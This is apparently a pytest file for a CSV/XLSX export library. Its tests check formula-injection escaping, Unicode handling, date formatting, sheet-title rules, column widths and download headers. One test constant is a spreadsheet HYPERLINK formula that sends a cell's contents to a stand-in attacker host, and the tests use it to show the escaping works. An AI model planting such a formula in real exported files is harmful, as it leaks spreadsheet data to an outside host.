import codecs
import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from cocreate.lib.exports import (
    CSV_TYPE,
    XLSX_TYPE,
    Sheet,
    csv_blocks,
    csv_bytes,
    csv_response,
    download_response,
    sheet_title,
    xlsx_bytes,
)

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)  # Excel reads the file as UTF-8 only with the mark
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_it_makes_formulas_inert_in_a_csv_header_and_rows():
    rows = read_csv(csv_bytes(["name", "+note"], [["Ana", FORMULA], ["@SUM(1)", "-2+3"]]))
    assert rows == [["name", "'+note"], ["Ana", "'" + FORMULA], ["'@SUM(1)", "'-2+3"]]


def test_it_makes_formulas_inert_in_a_workbook_and_keeps_numbers_and_dates():
    data = xlsx_bytes([Sheet("People", ["name", "=title"], [[FORMULA, 3, Decimal("2.5"), date(2026, 3, 3)]])])
    sheet = read_xlsx(data)["People"]
    assert [c.value for c in sheet[1]][:2] == ["name", "'=title"]
    cells = sheet[2]
    assert cells[0].value == "'" + FORMULA and cells[0].data_type == "s"  # text, not a formula
    assert cells[1].value == 3 and cells[2].value == 2.5
    assert cells[3].value.date() == date(2026, 3, 3)
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_it_keeps_unicode_in_both_formats():
    text = "José Ñúñez · 日本語 · Zoë"
    assert read_csv(csv_bytes(["nombre"], [[text]]))[1] == [text]
    assert read_xlsx(xlsx_bytes([Sheet("Año", ["nombre"], [[text]])]))["Año"]["A2"].value == text


def test_it_writes_dates_in_a_csv_as_iso_8601():
    assert read_csv(csv_bytes(["day"], [[date(2026, 1, 5)]]))[1] == ["2026-01-05"]


def test_it_writes_titled_blocks_with_a_blank_line_between():
    data = csv_blocks([Sheet("=Summary", ["a"], [[1]]), Sheet("Items", ["b"], [[2]])])
    assert read_csv(data) == [["'=Summary"], ["a"], ["1"], [], ["Items"], ["b"], ["2"]]


def test_it_gives_each_sheet_a_title_excel_accepts():
    used: set[str] = set()
    assert sheet_title("Q1: [draft]/final?", used) == "Q1   draft  final"
    assert len(sheet_title("x" * 40, used)) == 31
    again = sheet_title("x" * 40, used)
    assert again != "x" * 31 and len(again) <= 31
    assert sheet_title("[]", used) == "Sheet"
    names = read_xlsx(xlsx_bytes([Sheet("Items", ["a"], []), Sheet("Items", ["a"], [])])).sheetnames
    assert len(set(names)) == 2


def test_it_sizes_columns_to_their_headers_within_bounds():
    data = xlsx_bytes([Sheet("S", ["id", "a header of some length", "h" * 80], [], first_width=24)])
    widths = read_xlsx(data)["S"].column_dimensions
    assert widths["A"].width == 24 and widths["B"].width == 25 and widths["C"].width == 40


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("riverside-partners-2026-03-03.csv", 'attachment; filename="riverside-partners-2026-03-03.csv"'),
        ("río-claro.csv", "attachment; filename*=utf-8''r%C3%ADo-claro.csv"),
        ('a "quoted" name.csv', 'attachment; filename="a \\"quoted\\" name.csv"'),
    ],
)
def test_it_names_the_downloaded_file(filename, header):
    assert download_response(b"x", filename, CSV_TYPE)["Content-Disposition"] == header


def test_it_sends_tables_as_files():
    response = csv_response(["name"], [["=1+1"]], "people.csv")
    assert response["Content-Type"] == CSV_TYPE and "no-store" not in response.get("Cache-Control", "")
    assert read_csv(response.content) == [["name"], ["'=1+1"]]
    response = download_response(xlsx_bytes([Sheet("People", ["name"], [["Ana"]])]), "people.xlsx", XLSX_TYPE)
    assert response["Content-Type"] == XLSX_TYPE
    assert read_xlsx(response.content)["People"]["A2"].value == "Ana"


def test_it_keeps_private_files_out_of_caches_when_asked():
    assert (
        download_response(b"x", "r.pdf", "application/pdf", no_store=True)["Cache-Control"]
        == "private, no-store"
    )
